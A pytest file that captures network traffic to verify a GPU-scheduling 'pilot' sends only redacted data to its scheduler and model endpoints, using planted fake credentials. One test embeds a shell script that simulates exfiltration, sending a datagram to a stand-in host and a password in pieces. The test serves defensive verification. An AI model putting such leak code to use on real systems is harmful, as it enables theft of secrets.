"""What leaves gpu-pilot, as its network sees it: alone in a network namespace, of which every frame is captured."""

import json
import urllib.parse
import uuid

import pytest
from cable import NEEDS_NAMESPACES, Cable, can_lay_cables, entered, run_ip
from capture import TCP, Capture, packets_of, streams_of
from harness import IS_ROOT, wait_until
from test_allocation_door import Holder
from test_pilot import TRAINING, Model, Pilot

pytestmark = pytest.mark.skipif(not can_lay_cables(), reason=NEEDS_NAMESPACES)

MODEL_KEY = "the-key-of-the-model"
KEY_LINE = "b3BlbnNzaC1rZXktdjEAAAPLANTED"
# Doubtful signs, which the model is asked about: where they stand, their text, and the secrets in it.
DOUBTS = (
    ("log", "sign-0 finished, db_password=hunter2-hunter2", ("hunter2-hunter2",)),
    ("log", "sign-1 with Authorization: Bearer planted.bearer.word", ("planted.bearer.word",)),
    ("log", "sign-2 from postgres://planted-user:planted-word-81@db/features", ("planted-user", "planted-word-81")),
    ("log", f"sign-3 -----BEGIN OPENSSH PRIVATE KEY----- {KEY_LINE} -----END OPENSSH PRIVATE KEY-----", (KEY_LINE,)),
    ("shell", "sign-4 HF_TOKEN=hf_PLANTEDplantedPLANTED1 prepare --password planted-word-5",
     ("hf_PLANTEDplantedPLANTED1", "planted-word-5")),
    ("shell", "sign-5 gsk_PLANTED1planted2PLANTED3 and qX7vPLANTED4kd93mZpB2wN8", (
        "gsk_PLANTED1planted2PLANTED3", "qX7vPLANTED4kd93mZpB2wN8")),
    ("notebook", f"# sign-6\nkey = '''-----BEGIN RSA PRIVATE KEY-----\n{KEY_LINE}\nMIIEpPLANTEDsecondLine\n"
     "-----END RSA PRIVATE KEY-----'''\n", (KEY_LINE, "MIIEpPLANTEDsecondLine")),
    ("notebook", '# sign-7\nos.environ["OPENAI_API_KEY"] = "sk-planted-PLANTED-planted"\n', ("sk-planted-PLANTED-planted",)),
)
# What is no sign: nobody is told of it.
PRIVATE = (
    ("log", "opened /home/you/planted-home/draft.tex", ("planted-home",)),
    ("log", "MIIEowPLANTEDlineOfItsOwn", ("MIIEowPLANTEDlineOfItsOwn",)),
    ("shell", "ssh planted-account@planted-host.example", ("planted-account", "planted-host")),
    ("notebook", "review = 'planted words of a customer'\n", ("planted words",)),
)
# The last line: it suffices, and no model is asked.
BEGIN = f"password=planted-word-9 {TRAINING}"
OUTPUT, REMARK = "planted output", "planted remark"
SECRETS = {secret.encode() for _, _, secrets in (*DOUBTS, *PRIVATE) for secret in secrets} | {
    b"planted-word-9", OUTPUT.encode(), REMARK.encode()}


@pytest.fixture(name="cable")
def cable_fixture(session_folder):
    """At one end the tests and the scheduler, at the other the pilot and its model. All other addresses lie behind the
    first end: what goes to them is captured, too."""
    cable = Cable(session_folder.name.rpartition("-")[2])
    try:
        cable.lay()
        assert run_ip("-n", cable.names[1], "route", "add", "default", "via", cable.addresses[0]).returncode == 0
        with entered(cable.names[0]):
            yield cable
    finally:
        cable.take_away()


@pytest.fixture(name="pilot")
def pilot_fixture(cable, new_world):
    world = new_world(AGENT_HEARTBEAT_INTERVAL_MS=200)
    world.scheduler.address = "0.0.0.0"
    world.scheduler.start()
    token = str(world.scheduler.data_dir / "token")
    options = ["--default-user", "nobody"] if IS_ROOT else []
    world.add_agent("n1", allow_root_jobs=False, arguments=[*options, "--token-file", token]).start()
    environment = {**world.cli_environment(), "GPU_SCHEDULER_TOKEN_FILE": token}
    world.cli_environment = lambda: environment
    world.tenants = {}
    world.cli("tenant", "create", "--name", "vision", "--max-gpus", "4", expected=0)
    pilot = Pilot(world, Holder(world, "vision"))
    pilot.prefix = cable.inside(1)
    pilot.url = f"http://{cable.addresses[0]}:{world.scheduler.ports['http']}"
    pilot.monitors += [{"name": "shell", "kind": "shell", "paths": ["~/.history"]},
                       {"name": "code", "kind": "file", "paths": ["~/work"]}]
    pilot.more["rules_off"] = ["all"]
    pilot.rules = [{"name": f"doubt-{number}", "any": [f"sign-{number}"], "weight": 10} for number in range(len(DOUBTS))]
    pilot.rules.append({"name": "begin", "any": ["running training"], "weight": 100})
    (pilot.home / "work").mkdir()
    with entered(cable.names[1]):
        model = Model(json.dumps({"gpu_needed": True, "gpus": 1, "confidence": 0, "why": "planted-nothing"}))
    key = pilot.home / "model-key"
    key.write_text(MODEL_KEY + "\n")
    key.chmod(0o600)
    pilot.model = {"url": model.url(), "name": "tiny", "key_file": str(key), "ask_from": 10}
    pilot.server = model
    yield pilot
    pilot.kill()
    model.shutdown()
    model.server_close()


def plant(pilot, kind, text):
    if kind == "log":
        pilot.log_line(text + "\n")
    elif kind == "shell":
        with open(pilot.home / ".history", "a", encoding="utf-8") as history:
            history.write(text + "\n")
    else:
        cells = [{"cell_type": "code", "source": text.splitlines(keepends=True),
                  "outputs": [{"output_type": "stream", "text": [OUTPUT + "\n"]}]},
                 {"cell_type": "markdown", "source": [REMARK]}]
        fresh = pilot.home / "work" / "new"
        fresh.write_text(json.dumps({"cells": cells, "nbformat": 4}))
        fresh.rename(pilot.home / "work" / f"{uuid.uuid4().hex[:6]}.ipynb")


def told_of(model, sign):
    return any(sign in body["messages"][1]["content"] for _, _, body in model.asked)


def door_of(url):
    parts = urllib.parse.urlsplit(url)
    return parts.hostname, parts.port


def strangers(packets, doors, own):
    """Packets that are not of a connection of an own address with one of the doors."""
    return [packet for packet in packets if packet.protocol != TCP or not any(
        door in doors and other[0] in own
        for door, other in ((packet.source, packet.target), (packet.target, packet.source)))]


def secrets_in(texts):
    return {secret for secret in SECRETS for text in texts if secret in text}


def test_a_capture_sees_two_destinations_and_no_secret(cable, pilot):
    for kind, text, _ in PRIVATE:
        plant(pilot, kind, text)
    capture = Capture(cable.names[1])
    pilot.start()
    for kind, text, secrets in PRIVATE:
        assert all(secret in text for secret in secrets)
        plant(pilot, kind, text)
    for kind, text, secrets in DOUBTS:
        assert all(secret in text for secret in secrets)
        plant(pilot, kind, text)
        sign = text.removeprefix("# ").split()[0]
        wait_until(f"the model is told of {sign}", lambda sign=sign: told_of(pilot.server, sign))
    told = [line for line in pilot.server.asked[-1][2]["messages"][1]["content"].splitlines() if "sign-" in line]
    assert len(told) == len(DOUBTS) and all("[secret]" in line for line in told), told
    assert pilot.leases() == []
    pilot.log_line(BEGIN)
    pilot.wait_lease()
    assert pilot.stop() == 0
    frames = capture.end()

    packets = packets_of(frames)
    doors = {door_of(pilot.url): pilot.url, door_of(pilot.server.url()): pilot.server.url()}
    assert strangers(packets, doors, {cable.addresses[1], "127.0.0.1"}) == []
    streams = streams_of(packets)
    assert secrets_in(frames) == secrets_in([stream.bytes() for stream in streams]) == set()
    # Both were spoken to, each with its own key alone, and the audit has every byte.
    for door, url in doors.items():
        sent = b"".join(stream.bytes() for stream in streams if stream.target == door)
        got = b"".join(stream.bytes() for stream in streams if stream.source == door)
        own, other = (pilot.holder.key, MODEL_KEY) if url == pilot.url else (MODEL_KEY, pilot.holder.key)
        assert own.encode() in sent and other.encode() not in sent + got
        assert b" HTTP/1.1\r\n" in sent and b" 200 OK\r\n" in got
        assert sent.decode().replace(own, "[secret]") == "".join(
            one["sent"] for one in pilot.audit() if one.get("to") == url and "sent" in one)


# A program of the user's own, which the pilot starts and does not hold: a datagram to somebody else, and a secret to
# the model's port in two pieces.
LEAK = """#!/bin/sh
exec python3 -c '
import socket, time
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"planted-host", ("192.0.2.7", 53))
far = socket.create_connection(("{}", {}))
far.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
for piece in (b"hunter2-", b"hunter2"):
    far.sendall(piece)
    time.sleep(0.5)
print("{{}}", flush=True)
time.sleep(60)'
"""


def test_the_capture_sees_what_a_program_of_the_user_leaks(cable, pilot):
    leak = pilot.home / "leak"
    leak.write_text(LEAK.format(*door_of(pilot.server.url())))
    leak.chmod(0o700)
    pilot.monitors.append({"name": "leak", "kind": "custom", "command": [str(leak)]})
    capture = Capture(cable.names[1])
    pilot.start()
    doors = {door_of(pilot.url), door_of(pilot.server.url())}
    own = {cable.addresses[1], "127.0.0.1"}
    wait_until("it leaked", lambda: secrets_in(
        [stream.bytes() for stream in streams_of(packets_of(list(capture.frames)))]) == {b"hunter2-hunter2"})
    assert pilot.stop() == 0
    frames = capture.end()
    packets = packets_of(frames)
    others = {packet.target for packet in strangers(packets, doors, own) if packet.source[0] in own}
    assert others == {("192.0.2.7", 53)}
    assert b"planted-host" in secrets_in(frames)
    to_model = [packet.payload for packet in packets if packet.target == door_of(pilot.server.url())]
    assert secrets_in(to_model) == set(), "it is in two packets"
